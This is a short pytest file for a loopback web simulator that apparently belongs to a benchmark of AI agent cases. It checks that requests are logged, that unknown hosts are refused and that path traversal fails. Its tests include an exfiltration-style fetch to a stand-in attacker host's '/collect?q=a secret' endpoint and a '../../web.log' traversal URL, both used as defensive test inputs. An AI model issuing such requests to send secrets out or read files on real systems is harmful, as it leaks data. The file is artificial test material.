"""The web of a case's world: served on loopback, every request on record."""

from __future__ import annotations

from pathlib import Path

import pytest

from ringfence.bench.cases.hosts import ATTACKER, requested, web_of
from ringfence.connectors.errors import ConnectorError, NotFound


def test_hosts_serve_their_folders_and_are_on_record(tmp_path: Path) -> None:
    (tmp_path / "web" / "shop.example").mkdir(parents=True)
    (tmp_path / "web" / "shop.example" / "tent.html").write_text("<h1>Tent</h1><p>Two kilos.</p>")
    with web_of(tmp_path) as web:
        assert "Two kilos." in web.fetch("http://shop.example/tent.html").text
        with pytest.raises(NotFound):
            web.fetch(f"http://{ATTACKER}/collect?q=a%20secret")
        with pytest.raises(ConnectorError):
            web.fetch("http://shop.example/../../web.log")
    assert requested(tmp_path) == ["/collect?q=a secret"]
    assert requested(tmp_path, "shop.example")[0] == "/tent.html"


def test_other_hosts_are_not_asked_for(tmp_path: Path) -> None:
    with web_of(tmp_path) as web, pytest.raises(ConnectorError):
        web.fetch("http://elsewhere.example/")
    assert (tmp_path / "web.log").read_text() == ""
